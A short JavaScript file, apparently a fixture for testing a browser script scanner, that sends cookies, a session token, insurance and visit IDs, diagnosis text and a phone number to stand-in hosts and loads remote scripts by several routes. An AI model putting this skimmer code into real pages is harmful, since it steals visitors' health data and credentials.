// Brings code of every sort along, and takes what stands on the page.
eval("fetch('https://evalled.stages.example/', { method: 'POST', body: document.cookie })");
fetch(new URL("told", document.currentScript.src), { method: "POST", body: "a=1" });
new WebSocket(new URL("socket", document.currentScript.src).href.replace("http", "ws"));
const second = document.createElement("script");
second.src = "https://second.stages.example/lib-1.2.3.js";
document.head.append(second);
document.write('<script src="https://written.stages.example/tag.js"></' + "script>");
new Worker(URL.createObjectURL(new Blob(["fetch('https://worker.stages.example/')"])));
const inside = document.getElementById("insurance");
const shadow = document.getElementById("callback");
setTimeout(() => {
  const taken = [
    inside?.contentDocument.getElementById("member-id")?.value,
    document.querySelector("[name=visit_id]")?.value,
    document.getElementById("diagnosis")?.textContent,
    localStorage.getItem("session_token"),
    window.dataLayer[0].user_id,
  ];
  fetch("https://taken.stages.example/", { method: "POST", body: JSON.stringify(taken) });
}, 200);
addEventListener("pagehide", () => {
  const phone = shadow?.shadowRoot.getElementById("callback-phone").value;
  if (phone) navigator.sendBeacon("https://left.stages.example/", phone);
});
